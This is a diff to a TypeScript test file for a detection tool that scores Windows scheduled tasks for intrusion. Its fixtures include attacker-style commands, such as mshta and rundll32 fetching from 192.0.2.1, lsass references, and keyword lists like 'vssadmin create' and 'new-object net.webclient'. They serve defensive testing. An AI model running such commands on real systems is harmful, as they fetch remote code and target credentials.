@@ -4,9 +4,11 @@ import { describe, expect, test } from 'vitest'
 import type { Actor, Chain, Change, Run, RunProcess } from '../model/chain.ts'
 import { type Action, emptyDefinition, type Principal, type TaskDefinition } from '../model/definition.ts'
 import type { Severity } from '../model/finding.ts'
-import { factors } from './factors/index.ts'
-import { Prevalence, scoreChain } from './index.ts'
+import { factorsOfChange, factorsOfRuns } from './factors/index.ts'
+import { OwnBaseline, scoreChain, severityOf } from './index.ts'
+import { unknown } from './known.ts'
 import { subjectOf } from './subject.ts'
+import { traits } from './traits/index.ts'
 
 const midday = { time: Date.parse('2024-05-01T12:00:00Z'), ticks: 0 }
 const seconds = (n: number) => ({ time: midday.time + n * 1000, ticks: 0 })
@@ -89,7 +91,7 @@ const task = (more: Partial<Chain> = {}): Chain => ({
   ...more,
 })
 
-const score = (chain: Chain, runsAreVisible = true) => scoreChain(chain, new Prevalence(), runsAreVisible)
+const score = (chain: Chain, runsAreVisible = true) => scoreChain(chain, unknown, runsAreVisible)
 const bitsOf = (chain: Chain) => score(chain).score.bits
 
 describe('what an analyst expects', () => {
@@ -98,7 +100,7 @@ describe('what an analyst expects', () => {
     expect(bitsOf(from('C:\\Users\\Public\\a.exe'))).toBeGreaterThan(bitsOf(from('C:\\Windows\\System32\\a.exe')))
   })
 
-  test('a command that an intruder runs through a task of a second is critical', () => {
+  test('a command that an intruder runs through a task of a second is high at least', () => {
     const command = exec('cmd.exe', '/C whoami > %windir%\\Temp\\bouWFQYO.tmp 2>&1')
     const { verdict, score: weight } = score(
       task({
@@ -113,7 +115,7 @@ describe('what an analyst expects', () => {
       }),
     )
     expect(verdict).toBe('outlier')
-    expect(weight.severity).toBe('critical')
+    expect(['high', 'critical']).toContain(weight.severity)
   })
 
   test.each<[string, Chain]>([
@@ -170,34 +172,36 @@ describe('what an analyst expects', () => {
 })
 
 describe('severity', () => {
-  const fromAfar = madeBy(bob, { route: 'remote-rpc' })
-  const cleared = { ...midday, kind: 'log-cleared', what: 'Security', actor: bob } as const
-  const steps: readonly (readonly [Severity, number, Chain])[] = [
-    ['informational', 2, task({ statedAction: 'cmd.exe /c x' })],
-    ['low', 3, task({ kind: 'log-cleared', circumstances: [cleared] })],
-    ['low', 5, task({ change: fromAfar })],
-    ['medium', 8, task({ change: fromAfar, statedAction: 'a.exe', statedRunAs: 'SYSTEM' })],
-    ['medium', 13, task({ change: fromAfar, statedAction: 'a.exe lsass' })],
-    ['high', 14.5, task({ change: fromAfar, statedAction: 'rundll32.exe lsass' })],
-    ['high', 19.5, task({ change: fromAfar, statedAction: 'rundll32.exe http://192.0.2.1/lsass' })],
-    ['critical', 20, task({ change: fromAfar, statedAction: 'cmd.exe /c http://192.0.2.1/lsass' })],
+  const steps: readonly (readonly [Severity, number])[] = [
+    ['informational', 2.9],
+    ['low', 3],
+    ['low', 7.9],
+    ['medium', 8],
+    ['medium', 13.9],
+    ['high', 14],
+    ['high', 19.9],
+    ['critical', 20],
   ]
-  test.each(steps)('%s: %d bits', (severity, bits, chain) => {
-    expect(score(chain).score).toMatchObject({ severity, bits })
+  test.each(steps)('%s: %d bits', (severity, bits) => {
+    expect(severityOf(bits)).toBe(severity)
   })
 
   test('bits are the sum of the factors, and the heaviest comes first', () => {
     const { bits, factors: reasons } = score(
       task({ statedAction: 'mshta.exe http://192.0.2.1/a', statedRunAs: 'SYSTEM', change: madeBy(bob) }),
     ).score
-    expect(reasons.map((r) => r.id)).toEqual(['download', 'action-program', 'system-for-user'])
-    expect(bits).toBe(12.5)
+    expect(reasons.map((r) => r.id)).toEqual(['made-by-person', 'proxy', 'unseen-code', 'address'])
+    expect(bits).toBeCloseTo(reasons.reduce((sum, r) => sum + r.bits, 0))
     for (const reason of reasons) expect(reason.says).toMatch(/^[A-Z0-9].*[.\w)”]$/s)
   })
 
   test('a task that has not run can be critical', () => {
     const scored = score(
-      task({ statedAction: 'mshta.exe http://192.0.2.1/lsass', statedRunAs: 'SYSTEM', change: madeBy(bob) }),
+      task({
+        statedAction: 'C:\\Users\\Public\\svchost.exe http://192.0.2.1/a',
+        statedRunAs: 'SYSTEM',
+        change: madeBy(bob, { route: 'remote-rpc', laterChanges: [{ ...seconds(1), kind: 'deleted', actor: bob }] }),
+      }),
     )
     expect(scored.score.severity).toBe('critical')
     expect(scored.verdict).toBe('not-run')
@@ -210,7 +214,11 @@ describe('verdict', () => {
     expect(score(task({ runs: ran })).verdict).toBe('ordinary')
   })
   test('from eight bits on what ran is an outlier', () => {
-    expect(score(task({ statedAction: 'procdump', runs: ran })).verdict).toBe('outlier')
+    expect(
+      score(
+        task({ statedAction: 'C:\\Users\\Public\\svchost.exe', change: madeBy(bob), statedRunAs: 'SYSTEM', runs: ran }),
+      ).verdict,
+    ).toBe('outlier')
   })
   test('that nothing ran is said only where a run could have been seen', () => {
     expect(score(task(), true).verdict).toBe('not-run')
@@ -238,42 +246,48 @@ describe('prevalence', () => {
   const on = (host: string, action: string) => task({ host, statedAction: action, change: madeBy(bob) })
 
   test('one of sixteen hosts with an action is rare, sixteen of sixteen are ordinary', () => {
-    const prevalence = new Prevalence()
-    for (let i = 0; i < 16; i++) prevalence.see(on(`ws${i}`, 'C:\\Windows\\System32\\a.exe'))
-    prevalence.see(on('ws3', 'C:\\Windows\\System32\\b.exe'))
-    expect(prevalence.of(on('ws3', 'C:\\Windows\\System32\\a.exe'))).toEqual({ hostsWithAction: 16, hosts: 16 })
-    expect(prevalence.of(on('ws3', 'C:\\Windows\\System32\\b.exe'))).toEqual({ hostsWithAction: 1, hosts: 16 })
-    const weigh = (action: string) => scoreChain(on('ws3', action), prevalence, true).score.bits
-    expect(weigh('C:\\Windows\\System32\\b.exe')).toBe(3)
-    expect(weigh('C:\\Windows\\System32\\a.exe')).toBe(-2)
+    const baseline = new OwnBaseline()
+    for (let i = 0; i < 16; i++) baseline.see(on(`ws${i}`, 'C:\\Windows\\System32\\a.exe'))
+    baseline.see(on('ws3', 'C:\\Windows\\System32\\b.exe'))
+    expect(baseline.of(on('ws3', 'C:\\Windows\\System32\\a.exe')).prevalence).toEqual({
+      hostsWithAction: 16,
+      hosts: 16,
+    })
+    expect(baseline.of(on('ws3', 'C:\\Windows\\System32\\b.exe')).prevalence).toEqual({ hostsWithAction: 1, hosts: 16 })
+    const rarity = (action: string) =>
+      scoreChain(on('ws3', action), baseline.of(on('ws3', action)), true).score.factors.find(
+        (f) => f.id === 'rare-action',
+      )
+    expect(rarity('C:\\Windows\\System32\\b.exe')?.bits).toBe(3)
+    expect(rarity('C:\\Windows\\System32\\a.exe')?.bits).toBe(-2)
   })
 
   test('user names, quotes and case do not make the same software different', () => {
-    const prevalence = new Prevalence()
-    prevalence.see(on('ws1', '"C:\\Users\\bob\\AppData\\Local\\V\\v.exe" /x'))
-    prevalence.see(on('ws2', 'c:\\users\\ALICE\\AppData\\Local\\V\\V.EXE /x'))
-    expect(prevalence.of(on('ws1', 'C:\\Users\\carol\\AppData\\Local\\V\\v.exe /x')).hostsWithAction).toBe(2)
+    const baseline = new OwnBaseline()
+    baseline.see(on('ws1', '"C:\\Users\\bob\\AppData\\Local\\V\\v.exe" /x'))
+    baseline.see(on('ws2', 'c:\\users\\ALICE\\AppData\\Local\\V\\V.EXE /x'))
+    expect(baseline.of(on('ws1', 'C:\\Users\\carol\\AppData\\Local\\V\\v.exe /x')).prevalence.hostsWithAction).toBe(2)
   })
 
   test('the order of a task’s actions does not matter', () => {
-    const prevalence = new Prevalence()
+    const baseline = new OwnBaseline()
     const [a, b] = [exec('a.exe'), exec('b.exe')]
-    prevalence.see(task({ host: 'ws1', definition: definition('x', a, b) }))
-    prevalence.see(task({ host: 'ws2', definition: definition('x', b, a) }))
-    expect(prevalence.of(task({ definition: definition('x', a, b) })).hostsWithAction).toBe(2)
+    baseline.see(task({ host: 'ws1', definition: definition('x', a, b) }))
+    baseline.see(task({ host: 'ws2', definition: definition('x', b, a) }))
+    expect(baseline.of(task({ definition: definition('x', a, b) })).prevalence.hostsWithAction).toBe(2)
   })
 
   test('one host seen ten times is one host', () => {
-    const prevalence = new Prevalence()
-    for (let i = 0; i < 10; i++) prevalence.see(on('ws1', 'a.exe'))
-    expect(prevalence.of(on('ws1', 'a.exe'))).toEqual({ hostsWithAction: 1, hosts: 1 })
+    const baseline = new OwnBaseline()
+    for (let i = 0; i < 10; i++) baseline.see(on('ws1', 'a.exe'))
+    expect(baseline.of(on('ws1', 'a.exe')).prevalence).toEqual({ hostsWithAction: 1, hosts: 1 })
   })
 
   test('a host without any known action could not have shown one', () => {
-    const prevalence = new Prevalence()
-    prevalence.see(on('ws1', 'a.exe'))
-    prevalence.see(task({ host: 'ws2' }))
-    expect(prevalence.of(on('ws1', 'a.exe')).hosts).toBe(1)
+    const baseline = new OwnBaseline()
+    baseline.see(on('ws1', 'a.exe'))
+    baseline.see(task({ host: 'ws2' }))
+    expect(baseline.of(on('ws1', 'a.exe')).prevalence.hosts).toBe(1)
   })
 })
 
@@ -319,7 +333,8 @@ describe('hostile input', () => {
     expect(score(task({ taskPath: null })).score).toEqual({ bits: 0, severity: 'informational', factors: [] })
   })
 
-  // What the expressions of the factors repeat or look back over, a megabyte of each: a quadratic one would take hours.
+  // What the expressions of the factors repeat or look back over, a hundred and fifty thousand characters of each: a quadratic one would take
+  // hours.
   const characters = [' ', '"', '\\', 'a', '.', '%', '> ', 'A1', '\u{1f600}', '\ud800', '\u0130']
   const paths = ['%windir%', '%a', '$env:', 'c:/', '\\\\', '\\.\\', '\\users\\a', '\\programdata\\a.', '.exe', 'a.exe ']
   const commands = [
@@ -339,23 +354,34 @@ describe('hostile input', () => {
     'reg save ',
     'vssadmin create ',
     'reflection.assembly] :: ',
+    'net user ',
+    'wmic ',
+    'new-object net.webclient ',
+    '2.2.2.',
     '/sc minute',
     '/mo ',
     '/xml ',
   ]
-  test.each([...characters, ...paths, ...commands, ...words])('a megabyte of %j is weighed in no time', (piece) => {
-    const text = piece.repeat(Math.ceil(1_000_000 / piece.length))
-    for (const each of [text, `cmd powershell \\users\\> "\\\\${text}!`]) {
-      const subject = subjectOf(
-        { ...everywhere(each), definition: null, statedAction: each },
-        { hostsWithAction: 1, hosts: 16 },
-      )
-      for (const factor of factors) {
-        const start = cpuUsage()
-        factor.weigh(subject)
-        expect(cpuUsage(start).user / 1000, factor.id).toBeLessThan(20_000)
+  test.each([...characters, ...paths, ...commands, ...words])(
+    'a hundred and fifty thousand characters of %j are weighed in no time',
+    (piece) => {
+      const text = piece.repeat(Math.ceil(150_000 / piece.length))
+      for (const each of [text, `cmd powershell \\users\\> "\\\\${text}!`]) {
+        const subject = subjectOf(
+          { ...everywhere(each), definition: null, statedAction: each },
+          { ...unknown, prevalence: { hostsWithAction: 1, hosts: 16 } },
+        )
+        const looks = [
+          ...[...factorsOfChange, ...factorsOfRuns].map(({ id, weigh }) => ({ id, look: () => weigh(subject) })),
+          ...traits.map(({ id, seen }) => ({ id, look: () => seen(subject) })),
+        ]
+        for (const { id, look } of looks) {
+          const start = cpuUsage()
+          look()
+          expect(cpuUsage(start).user / 1000, id).toBeLessThan(2000)
+        }
+        new OwnBaseline().see(subject.chain)
       }
-      new Prevalence().see(subject.chain)
-    }
-  })
+    },
+  )
 })
